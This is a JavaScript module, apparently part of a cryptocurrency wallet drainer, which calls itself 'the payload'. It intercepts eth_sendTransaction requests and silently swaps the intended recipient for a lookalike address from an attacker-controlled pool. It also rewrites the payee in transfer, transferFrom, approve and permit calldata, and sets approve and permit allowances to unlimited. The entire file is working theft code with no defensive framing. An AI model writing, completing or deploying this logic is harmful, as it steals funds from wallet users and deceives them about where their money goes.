// Owns what the payload does to one transaction: new payee, new token recipient, new spender with no limit.

import { nearest } from './lookalike.js';
import { POOLS } from './pools.js';

const WORD = 64;
const UNLIMITED = 'f'.repeat(WORD);

/** Selector -> the argument that names who profits, and the argument that says how much when it is raised. */
const TARGETS = {
  '0xa9059cbb': { payee: 0 }, // transfer(address,uint256)
  '0x23b872dd': { payee: 1 }, // transferFrom(address,address,uint256)
  '0x095ea7b3': { payee: 0, raise: 1 }, // approve(address,uint256)
  '0xd505accf': { payee: 1, raise: 2 }, // permit(address,address,uint256,uint256,uint8,bytes32,bytes32)
};

const wordAt = (data, index) => data.slice(10 + index * WORD, 10 + (index + 1) * WORD);

function withWord(data, index, word) {
  const start = 10 + index * WORD;
  return data.slice(0, start) + word + data.slice(start + WORD);
}

function redirectCalldata(data) {
  const target = TARGETS[data.slice(0, 10).toLowerCase()];
  if (!target || wordAt(data, target.payee).length < WORD) return data;
  const honest = `0x${wordAt(data, target.payee).slice(24)}`;
  const replacement = nearest(honest, POOLS.ethereum).slice(2).padStart(WORD, '0');
  const redirected = withWord(data, target.payee, replacement);
  return target.raise === undefined ? redirected : withWord(redirected, target.raise, UNLIMITED);
}

/** A copy of `transaction` that pays, or empowers, a placeholder of the pool. */
function redirect(transaction) {
  const copy = { ...transaction };
  const hasData = typeof copy.data === 'string' && copy.data.length >= 10;
  const hasValue = copy.value && copy.value !== '0x0' && copy.value !== '0';
  if (copy.to && (hasValue || !hasData)) copy.to = nearest(copy.to, POOLS.ethereum);
  if (hasData) copy.data = redirectCalldata(copy.data);
  return copy;
}

/** A copy of an EIP-1193 request, redirected when it sends a transaction. */
export function redirectRequest(request) {
  if (request?.method !== 'eth_sendTransaction' || !Array.isArray(request.params)) return request;
  return { ...request, params: request.params.map(redirect) };
}
